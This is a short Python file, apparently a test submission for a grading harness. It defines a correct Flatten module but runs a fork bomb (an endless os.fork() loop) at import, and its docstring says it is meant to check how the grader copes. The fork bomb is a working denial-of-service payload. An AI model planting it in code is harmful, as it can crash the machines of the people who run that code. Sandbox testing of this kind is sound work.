"""A fork bomb at import: every process forks until it cannot.
expect: full marks for flatten
needs: root (as any other user these would harm the machine, not just the submission)
score: any
"""

import os

from torch import nn

try:
    while True:
        os.fork()
except OSError:
    pass


class Flatten(nn.Module):
    def forward(self, x):
        return x.reshape(x.shape[0], -1)
